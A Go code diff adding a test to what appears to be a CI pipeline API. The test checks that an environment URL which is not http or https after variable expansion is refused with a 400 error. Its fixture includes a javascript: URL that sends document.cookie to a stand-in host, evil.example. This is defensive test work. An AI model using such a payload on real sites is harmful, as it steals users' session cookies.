@@ -183,3 +183,23 @@ func wantVariables(t *testing.T, job *runnerclient.Job, want map[string]string) 
 		}
 	}
 }
+
+// TestEnvironmentURLMustBeWeb: a pipeline whose environment:url is not http(s) once
+// expanded (javascript: through a variable here) is refused with a 400 naming the job and
+// the key; nothing is created.
+func TestEnvironmentURLMustBeWeb(t *testing.T) {
+	t.Parallel()
+	inst := jobapitest.Start(t, jobapitest.Options{})
+	var proj api.Project
+	inst.MustDo(t, http.StatusCreated, "POST", "/api/v4/projects", map[string]any{"name": "app", "default_branch": "main"}, &proj)
+	src := "variables:\n  LINK: 'javascript:fetch(\"//evil.example/\"+document.cookie)'\n" +
+		"deploy:\n  script: ./deploy.sh\n  environment:\n    name: production\n    url: $LINK\n"
+	resp, b := inst.Do(t, "POST", projectPath(proj.ID)+"/pipeline", map[string]any{"ref": "main", "ci_config": src})
+	wantStatus(t, resp, b, http.StatusBadRequest)
+	if msg := decode[api.Error](t, b).Message; !strings.Contains(msg, "jobs:deploy:environment:url") || !strings.Contains(msg, "http or https") {
+		t.Fatalf("message %q, want it to name jobs:deploy:environment:url and say http or https", msg)
+	}
+	if envs := listEnvironments(t, inst, proj.ID); len(envs) != 0 {
+		t.Fatalf("environments after a refused pipeline: %+v", envs)
+	}
+}
